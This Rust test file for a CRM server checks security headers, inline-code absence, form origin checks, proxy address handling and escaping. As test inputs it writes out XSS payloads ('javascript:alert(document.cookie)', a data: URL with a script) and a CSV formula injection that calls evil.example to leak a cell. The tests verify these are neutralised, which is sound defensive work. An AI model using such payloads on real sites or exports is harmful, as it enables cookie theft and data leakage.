//! Headers and small leaks: what a browser is told about every answer, pages that run no inline
//! code, links that cannot run script, CSV cells that cannot become formulas, web forms that refuse
//! a hidden origin, and a client address taken only from a proxy the operator trusts.
use crate::helpers::{TestApp, UiSession};
use crate::intake::{deliver, source, Hook};
use poryadok_server::security::ProxyHeader;
use poryadok_server::worker::Worker;
use poryadok_server::AppState;
use reqwest::header::HeaderMap;
use reqwest::StatusCode;
use serde_json::{json, Value};

crate::both_dbs!(
    every_page_and_answer_carries_the_security_headers,
    the_pages_run_no_inline_code,
    a_form_page_is_framed_only_by_its_sites_and_posts_only_to_them,
    a_script_link_in_a_text_field_is_plain_text_on_the_review_page,
    a_typed_formula_stays_text_in_the_csv_export,
    a_post_with_a_hidden_origin_is_refused_and_not_stored,
    the_client_address_comes_only_from_a_trusted_proxy_header,
);

fn no_redirects() -> reqwest::Client {
    reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap()
}

fn header<'a>(h: &'a HeaderMap, name: &str) -> &'a str {
    h.get(name).map(|v| v.to_str().unwrap()).unwrap_or_else(|| panic!("no {name} header in {h:?}"))
}

/// The directives of a policy, each as one normalised string.
fn directives(csp: &str) -> Vec<String> {
    csp.split(';').map(|d| d.split_whitespace().collect::<Vec<_>>().join(" ")).filter(|d| !d.is_empty()).collect()
}

#[track_caller]
fn assert_page_headers(h: &HeaderMap) {
    let csp = header(h, "content-security-policy");
    let d = directives(csp);
    for want in [
        "default-src 'self'",
        "script-src 'self'",
        "style-src 'self'",
        "img-src 'self' data:",
        "frame-ancestors 'none'",
        "form-action 'self'",
        "base-uri 'none'",
    ] {
        assert!(d.iter().any(|x| x == want), "{want:?} missing from {csp}");
    }
    assert!(!csp.contains("unsafe-inline") && !csp.contains("unsafe-eval"), "{csp}");
    assert_eq!(header(h, "x-frame-options"), "DENY");
    assert_eq!(header(h, "x-content-type-options"), "nosniff");
    assert_eq!(header(h, "referrer-policy"), "same-origin");
}

#[track_caller]
fn assert_api_headers(h: &HeaderMap) {
    let d = directives(header(h, "content-security-policy"));
    assert!(d.contains(&"default-src 'none'".to_string()) && d.contains(&"frame-ancestors 'none'".to_string()), "{d:?}");
    assert_eq!(header(h, "x-frame-options"), "DENY");
    assert_eq!(header(h, "x-content-type-options"), "nosniff");
    assert_eq!(header(h, "referrer-policy"), "same-origin");
}

/// What a strict policy would block: inline scripts, `<style>` blocks, `style` and `on…` attributes,
/// `javascript:` URLs.
#[track_caller]
fn assert_no_inline_code(path: &str, html: &str) {
    let lower = html.to_lowercase();
    for (i, _) in lower.match_indices("<script") {
        let tag = &lower[i..i + lower[i..].find('>').unwrap()];
        assert!(tag.contains(" src="), "{path}: an inline script: {tag}");
    }
    assert!(!lower.contains("<style"), "{path}: a <style> block");
    assert!(!lower.contains(" style=\""), "{path}: a style attribute");
    assert!(!lower.contains("javascript:"), "{path}: a javascript: URL");
    for (i, _) in lower.match_indices(" on") {
        let name: String = lower[i + 3..].chars().take_while(|c| c.is_ascii_alphabetic()).collect();
        let after = &lower[i + 3 + name.len()..];
        assert!(name.is_empty() || !after.starts_with("=\"") || !html_tag_open(&lower[..i]), "{path}: an inline handler on{name}");
    }
}

/// Whether position `before.len()` is inside a tag (after a `<` with no `>` since).
fn html_tag_open(before: &str) -> bool {
    before.rfind('<').is_some_and(|lt| before.rfind('>').is_none_or(|gt| gt < lt))
}

async fn head(app: &TestApp) -> UiSession {
    let id = app.db.user_by_email("head@a.test").await.unwrap().unwrap().1;
    app.ui_login(id, "head@a.test").await
}

async fn run_jobs(app: &TestApp) {
    Worker::new(&AppState::new(app.db.clone())).run_once().await.unwrap();
}

async fn every_page_and_answer_carries_the_security_headers(app: TestApp) {
    // The sign-in page, before any session.
    let resp = no_redirects().get(format!("{}/login", app.base)).send().await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert_page_headers(resp.headers());
    // A signed-in page, a fragment and an error page.
    let s = app.ui_login(app.ids.manager1, "m1@a.test").await;
    for (path, htmx, status) in [("/board", false, 200), ("/deals", true, 200), ("/settings/users", false, 403)] {
        let mut req = s.client.get(format!("{}{path}", app.base));
        if htmx {
            req = req.header("HX-Request", "true");
        }
        let resp = req.send().await.unwrap();
        assert_eq!(resp.status().as_u16(), status, "{path}");
        assert_page_headers(resp.headers());
    }
    // The API: JSON, an error envelope, an unknown path; static files.
    let resp = app.client.get(format!("{}/api/v1/me", app.base)).bearer_auth(&app.t.manager1).send().await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert_api_headers(resp.headers());
    let resp = app.client.get(format!("{}/api/v1/deals/999999", app.base)).bearer_auth(&app.t.manager1).send().await.unwrap();
    assert_eq!(resp.status(), StatusCode::NOT_FOUND);
    assert_api_headers(resp.headers());
    assert_eq!(resp.json::<Value>().await.unwrap()["error"]["code"], "not_found");
    let resp = app.client.get(format!("{}/no/such/thing", app.base)).send().await.unwrap();
    assert_api_headers(resp.headers());
    let (_, board) = s.get("/board").await;
    let js = crate::helpers::html_attr(&board, "<script src=", "src").unwrap();
    let resp = app.client.get(format!("{}{js}", app.base)).send().await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert!(header(resp.headers(), "content-type").starts_with("text/javascript"));
    assert_eq!(header(resp.headers(), "x-content-type-options"), "nosniff");
}

async fn the_pages_run_no_inline_code(app: TestApp) {
    let deal = app.create(&app.t.manager1, "deals", json!({"title": "Ромашка", "custom": {"demo_link": "https://demo.example/1"}})).await;
    let org = app.create(&app.t.manager1, "organizations", json!({"name": "ООО Ромашка", "website": "https://romashka.example"})).await;
    let person = app.create(&app.t.manager1, "persons", json!({"name": "Анна", "phone": "+79161234567"})).await;
    let login = no_redirects().get(format!("{}/login", app.base)).send().await.unwrap().text().await.unwrap();
    assert_no_inline_code("/login", &login);
    let admin = app.ui_login(app.ids.admin, "admin@a.test").await;
    let deal_card = format!("/deals/{deal}");
    let org_card = format!("/organizations/{org}");
    let person_card = format!("/persons/{person}");
    for path in [
        "/board",
        "/today",
        "/deals",
        "/persons",
        "/organizations",
        "/invoices",
        "/violations",
        "/notifications",
        "/settings",
        "/duplicates",
        "/intake/events",
        deal_card.as_str(),
        org_card.as_str(),
        person_card.as_str(),
        "/no/such/page",
    ] {
        let resp = admin.client.get(format!("{}{path}", app.base)).send().await.unwrap();
        let (status, path) = match resp.headers().get("location") {
            Some(to) => (resp.status(), to.to_str().unwrap().to_string()),
            None => (resp.status(), path.to_string()),
        };
        let (status, html) = if status.is_redirection() { admin.get(&path).await } else { (status, resp.text().await.unwrap()) };
        assert!(status.is_success() || status == StatusCode::NOT_FOUND, "{path}: {status}");
        assert_no_inline_code(&path, &html);
    }
}

fn form_config() -> Value {
    json!({
        "title": "Заказ звонка",
        "fields": [
            {"name": "name", "label": "Имя", "maps_to": "person.name"},
            {"name": "phone", "label": "Телефон", "maps_to": "person.phone"}
        ],
        "allowed_origins": ["https://site.example"],
        "redirect_url": "https://site.example/thanks",
        "min_fill_seconds": 0,
        "rate_per_minute": 2
    })
}

async fn form(app: &TestApp, config: Value) -> (Hook, String) {
    let hook = source(app, "form", config).await;
    let key = hook.path.trim_start_matches("/hooks/").to_string();
    (hook, key)
}

async fn event_count(app: &TestApp) -> usize {
    let (_, v) = app.get(&app.t.admin, "/api/v1/intake/events").await;
    v["data"].as_array().unwrap().len()
}

async fn a_form_page_is_framed_only_by_its_sites_and_posts_only_to_them(app: TestApp) {
    let (_, key) = form(&app, form_config()).await;
    for query in ["", "?embed=1"] {
        let resp = no_redirects().get(format!("{}/f/{key}{query}", app.base)).send().await.unwrap();
        assert_eq!(resp.status(), StatusCode::OK);
        let h = resp.headers().clone();
        let d = directives(header(&h, "content-security-policy"));
        for want in [
            "frame-ancestors 'self' https://site.example",
            "form-action 'self' https://site.example",
            "script-src 'self'",
            "style-src 'self'",
            "base-uri 'none'",
        ] {
            assert!(d.iter().any(|x| x == want), "{want:?} missing from {d:?}");
        }
        assert!(h.get("x-frame-options").is_none(), "the allowed site may frame it");
        assert_eq!(header(&h, "x-content-type-options"), "nosniff");
        let html = resp.text().await.unwrap();
        assert_no_inline_code(&format!("/f/{key}{query}"), &html);
        // Its script and styles come from this server.
        for (marker, attr, ty) in [("<script src=", "src", "text/javascript"), ("<link rel=\"stylesheet\"", "href", "text/css")] {
            let url = crate::helpers::html_attr(&html, marker, attr).unwrap();
            let asset = app.client.get(format!("{}{url}", app.base)).send().await.unwrap();
            assert_eq!(asset.status(), StatusCode::OK, "{url}");
            assert!(header(asset.headers(), "content-type").starts_with(ty), "{url}");
        }
        if query.is_empty() {
            assert!(!html.contains("data-form-key"), "only the framed page reports its height");
        } else {
            assert!(html.contains(&format!("data-form-key=\"{key}\"")), "{html}");
        }
    }
    // A form that allows no other site: framed and posted by this server only.
    let mut own = form_config();
    own["allowed_origins"] = json!([]);
    own["redirect_url"] = Value::Null;
    let (_, key) = form(&app, own).await;
    let resp = no_redirects().get(format!("{}/f/{key}", app.base)).send().await.unwrap();
    let d = directives(header(resp.headers(), "content-security-policy"));
    assert!(d.contains(&"frame-ancestors 'self'".into()) && d.contains(&"form-action 'self'".into()), "{d:?}");
}

/// Turns the deal fields `demo_link` and `proposal_link` into plain text fields, as a workspace
/// that keeps links as text has them.
async fn links_as_text(app: &TestApp) {
    use sea_orm::ConnectionTrait;
    let conn = sea_orm::Database::connect(app.url.expose()).await.unwrap();
    let sql = format!(
        "UPDATE custom_field_defs SET field_type = 'text' WHERE workspace_id = {} AND key IN ('demo_link', 'proposal_link')",
        app.ws
    );
    conn.execute_unprepared(&sql).await.unwrap();
    conn.close().await.unwrap();
}

async fn a_script_link_in_a_text_field_is_plain_text_on_the_review_page(app: TestApp) {
    links_as_text(&app).await;
    let body = json!({"name": "Нет суммы", "entity": "deal", "expression": "value = 0", "criticality": 1, "why": "w", "fix": "f"});
    app.create(&app.t.head, "rules", body).await;
    let custom = json!({"demo_link": "javascript:alert(1)", "proposal_link": " HTTPS://proposal.example/kp "});
    let bad = app.create(&app.t.manager1, "deals", json!({"title": "Ромашка", "custom": custom})).await;
    let custom = json!({"demo_link": "JaVaScRiPt:alert(document.cookie)", "proposal_link": "data:text/html,<script>alert(2)</script>"});
    app.create(&app.t.manager1, "deals", json!({"title": "Лютик", "custom": custom})).await;
    let (s, v) = app.get(&app.t.manager1, &format!("/api/v1/deals/{bad}")).await;
    assert_eq!((s, &v["data"]["custom"]["demo_link"]), (StatusCode::OK, &json!("javascript:alert(1)")), "{v}");
    let (s, v) = app.post(&app.t.head, "/api/v1/audit/rounds", json!({})).await;
    assert_eq!(s, StatusCode::ACCEPTED, "{v}");
    run_jobs(&app).await;
    let round = v["data"]["id"].as_i64().unwrap();
    // Past the deadline, unanswered violations wait for the head's review.
    app.clock.advance(time::Duration::days(6));
    let (status, html) = head(&app).await.get(&format!("/audit/rounds/{round}/review")).await;
    assert_eq!(status, StatusCode::OK, "{html}");
    let lower = html.to_lowercase();
    assert!(!lower.contains("href=\"javascript") && !lower.contains("href=\"data:"), "a script link: {html}");
    assert!(html.contains("javascript:alert(1)"), "the value is shown as text: {html}");
    assert!(html.contains("data:text/html,&lt;script&gt;") || html.contains("data:text/html,&#60;script&#62;"), "{html}");
    assert!(html.contains("href=\"https://proposal.example/kp\""), "an http(s) value is a link: {html}");
}

async fn a_typed_formula_stays_text_in_the_csv_export(app: TestApp) {
    let body = json!({"name": "=1+1 rule", "entity": "deal", "expression": "value = 0", "criticality": 1, "why": "w", "fix": "f"});
    app.create(&app.t.head, "rules", body).await;
    app.create(&app.t.manager1, "deals", json!({"title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"})).await;
    app.create(&app.t.manager1, "deals", json!({"title": "+7 916 123-45-67 перезвонить"})).await;
    app.create(&app.t.manager1, "deals", json!({"title": "-100 скидка"})).await;
    app.create(&app.t.manager1, "deals", json!({"title": "@SUM(1;2)"})).await;
    let (_, v) = app.post(&app.t.head, "/api/v1/audit/rounds", json!({})).await;
    run_jobs(&app).await;
    let round = v["data"]["id"].as_i64().unwrap();
    let resp = app
        .client
        .get(format!("{}/api/v1/audit/rounds/{round}/export?format=csv", app.base))
        .bearer_auth(&app.t.head)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert!(header(resp.headers(), "content-type").starts_with("text/csv"));
    let csv = resp.text().await.unwrap();
    let lines: Vec<&str> = csv.lines().skip(1).collect();
    assert_eq!(lines.len(), 4, "{csv}");
    for line in &lines {
        // Every cell: the rule, the link, the title…
        assert!(line.starts_with("'=1+1 rule,http"), "{line}");
    }
    let has = |cell: &str| assert!(lines.iter().any(|l| l.contains(cell)), "{cell} not in {csv}");
    has(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\",");
    has(",'+7 916 123-45-67 перезвонить,");
    has(",'-100 скидка,");
    has(",\"'@SUM(1;2)\",");
    // No cell of any line starts a formula (outside quotes, after a separator).
    for line in &lines {
        for sep in [",=", ",+", ",-", ",@", ";="] {
            assert!(!line.contains(sep), "{sep} in {line}");
        }
    }
}

async fn a_post_with_a_hidden_origin_is_refused_and_not_stored(app: TestApp) {
    let (_, key) = form(&app, form_config()).await;
    let url = format!("{}/f/{key}", app.base);
    let lead = json!({"name": "Олег", "phone": "+79995550011"});
    // A script in a sandboxed frame (or a data: page) posts with `Origin: null`.
    let resp = no_redirects().post(&url).header("origin", "null").json(&lead).send().await.unwrap();
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    let v: Value = resp.json().await.unwrap();
    assert_eq!(v["error"]["code"], "forbidden_origin", "{v}");
    assert!(v["error"]["message"].as_str().is_some_and(|m| !m.is_empty()));
    // The same as an HTML form, with a Referer that claims the allowed site.
    let resp = no_redirects()
        .post(&url)
        .header("origin", "null")
        .header("referer", "https://site.example/contacts")
        .form(&[("name", "Олег"), ("phone", "+79995550011"), ("website", "")])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    assert!(resp.text().await.unwrap().contains("Эту форму нельзя отправить с этого сайта"));
    let pre = no_redirects().request(reqwest::Method::OPTIONS, &url).header("origin", "null").send().await.unwrap();
    assert_eq!(pre.status(), StatusCode::FORBIDDEN);
    assert!(pre.headers().get("access-control-allow-origin").is_none());
    assert_eq!(event_count(&app).await, 0, "a hidden origin's post is not stored");
    // The allowed site itself still gets through.
    let resp = no_redirects().post(&url).header("origin", "https://site.example").json(&lead).send().await.unwrap();
    assert_eq!(resp.status(), StatusCode::ACCEPTED);
    assert_eq!(header(resp.headers(), "access-control-allow-origin"), "https://site.example");
    assert_eq!(event_count(&app).await, 1);
}

async fn the_client_address_comes_only_from_a_trusted_proxy_header(app: TestApp) {
    let (_, key) = form(&app, form_config()).await;
    let post = |base: String, headers: Vec<(&'static str, &'static str)>, n: u32| {
        let key = key.clone();
        async move {
            let mut req = no_redirects().post(format!("{base}/f/{key}")).header("origin", "https://site.example");
            for (k, v) in headers {
                req = req.header(k, v);
            }
            req.json(&json!({"name": "Олег", "phone": format!("+7999555{n:04}")})).send().await.unwrap().status()
        }
    };
    // Straight to the server: forged headers change nothing, the socket's address is counted.
    let base = app.base.clone();
    assert_eq!(post(base.clone(), vec![("x-forwarded-for", "203.0.113.1")], 1).await, StatusCode::ACCEPTED);
    assert_eq!(post(base.clone(), vec![("x-real-ip", "203.0.113.2")], 2).await, StatusCode::ACCEPTED);
    assert_eq!(
        post(base.clone(), vec![("x-forwarded-for", "203.0.113.3"), ("x-real-ip", "203.0.113.3")], 3).await,
        StatusCode::TOO_MANY_REQUESTS
    );
    app.clock.advance(time::Duration::seconds(61));

    // Behind nginx setting X-Real-IP: that header names the client; X-Forwarded-For is ignored.
    let real = app.serve_with(|s| s.security.trusted_proxy_header = ProxyHeader::XRealIp).await;
    assert_eq!(post(real.clone(), vec![("x-real-ip", "198.51.100.1"), ("x-forwarded-for", "1.1.1.1")], 4).await, StatusCode::ACCEPTED);
    assert_eq!(post(real.clone(), vec![("x-real-ip", "198.51.100.1"), ("x-forwarded-for", "2.2.2.2")], 5).await, StatusCode::ACCEPTED);
    assert_eq!(post(real.clone(), vec![("x-real-ip", "198.51.100.1")], 6).await, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(post(real.clone(), vec![("x-real-ip", "198.51.100.2")], 7).await, StatusCode::ACCEPTED, "another client counts apart");
    app.clock.advance(time::Duration::seconds(61));

    // Behind a proxy appending to X-Forwarded-For: the right-most address; what the client wrote
    // to the left of it does not make it someone else.
    let xff = app.serve_with(|s| s.security.trusted_proxy_header = ProxyHeader::XForwardedFor).await;
    assert_eq!(post(xff.clone(), vec![("x-forwarded-for", "6.6.6.6, 192.0.2.10")], 8).await, StatusCode::ACCEPTED);
    assert_eq!(post(xff.clone(), vec![("x-forwarded-for", "7.7.7.7, 192.0.2.10")], 9).await, StatusCode::ACCEPTED);
    assert_eq!(post(xff.clone(), vec![("x-forwarded-for", "8.8.8.8, 192.0.2.10")], 10).await, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(post(xff.clone(), vec![("x-forwarded-for", "6.6.6.6, 192.0.2.11")], 11).await, StatusCode::ACCEPTED);

    // The intake inbox keeps the same address for a delivery.
    let (_, v) = app.get(&app.t.admin, "/api/v1/intake/events?limit=50").await;
    let addrs: Vec<&str> = v["data"].as_array().unwrap().iter().filter_map(|e| e["remote_addr"].as_str()).collect();
    assert!(addrs.contains(&"198.51.100.2") && addrs.contains(&"192.0.2.11") && addrs.contains(&"127.0.0.1"), "{addrs:?}");
    assert!(!addrs.iter().any(|a| ["203.0.113.1", "1.1.1.1", "6.6.6.6"].contains(a)), "{addrs:?}");
    let hook = source(&app, "telephony", json!({})).await;
    // Even a delivery that cannot be read is kept, with its sender.
    let (_, v) = deliver(&app, &hook, "application/json", b"{\"call_id\": ").await;
    assert!(v["event_id"].is_i64(), "{v}");
    let (_, ev) = app.get(&app.t.admin, &format!("/api/v1/intake/events/{}", v["event_id"])).await;
    assert_eq!(ev["data"]["remote_addr"], "127.0.0.1", "{ev}");
}

/// The policy's reports a page has collected (Chromium buffers them from the page's start).
async fn csp_reports(browser: &crate::browser::Browser) -> Vec<String> {
    let script = r#"
        const done = arguments[arguments.length - 1];
        const seen = [];
        const take = (reports) => reports.forEach((r) => seen.push(r.body.effectiveDirective + " " + r.body.blockedURL));
        const o = new ReportingObserver(take, { types: ["csp-violation"], buffered: true });
        o.observe();
        setTimeout(() => { take(o.takeRecords()); o.disconnect(); done(seen); }, 500);
    "#;
    let v = browser.client.execute_async(script, vec![]).await.unwrap();
    v.as_array().unwrap().iter().map(|s| s.as_str().unwrap().to_string()).collect()
}

/// The real browser under the real policy: the board's scripts run (htmx filters the board
/// without a reload), the public form page works framed, and nothing is blocked on the way.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_policy_blocks_nothing_the_pages_need_in_a_real_browser() {
    use fantoccini::Locator;
    let Some(browser) = crate::browser::start_browser().await else { return };
    let app = crate::helpers::spawn_app(crate::helpers::Backend::Sqlite).await.unwrap();
    app.create(&app.t.manager1, "deals", json!({"title": "Ромашка", "value": 100_000})).await;
    app.create(&app.t.manager1, "deals", json!({"title": "Лютик", "value": 200_000})).await;
    let password = "browser-pass-123";
    app.set_password(app.ids.manager1, password).await;
    browser.login(&app.base, "m1@a.test", password).await;
    browser.wait_until("htmx and app.js", "window.htmx && document.querySelector('.deal-card')").await;
    browser.wait_for("#board-q").await.send_keys("Лютик").await.unwrap();
    browser
        .wait_until("the filtered board", "document.querySelector('#board').textContent.includes('Лютик') && !document.querySelector('#board').textContent.includes('Ромашка')")
        .await;
    assert_eq!(csp_reports(&browser).await, Vec::<String>::new(), "the board");
    // A style attribute set by a page script is blocked and reported: the reports are real.
    browser
        .client
        .execute("document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\" id=\"probe\">x</p>');", vec![])
        .await
        .unwrap();
    let reports = csp_reports(&browser).await;
    assert!(reports.iter().any(|r| r.starts_with("style-src")), "the probe is reported: {reports:?}");
    assert!(reports.iter().all(|r| r.starts_with("style-src-attr") || r.starts_with("style-src ")) && reports.len() == 1, "{reports:?}");

    let (_, key) = form(&app, form_config()).await;
    for query in ["", "?embed=1"] {
        browser.client.goto(&format!("{}/f/{key}{query}", app.base)).await.unwrap();
        browser.wait_for("#poryadok-form").await;
        browser.wait_until("form.css", "getComputedStyle(document.querySelector('button[type=submit]')).width !== 'auto'").await;
        assert_eq!(csp_reports(&browser).await, Vec::<String>::new(), "/f/{key}{query}");
    }
    browser.client.find(Locator::Css("#f-name")).await.unwrap().send_keys("Олег").await.unwrap();
    browser.client.find(Locator::Css("#f-phone")).await.unwrap().send_keys("+79995550011").await.unwrap();
    browser.client.find(Locator::Css("button[type=submit]")).await.unwrap().click().await.unwrap();
    browser.wait_for(".done").await;
    assert_eq!(csp_reports(&browser).await, Vec::<String>::new());
}
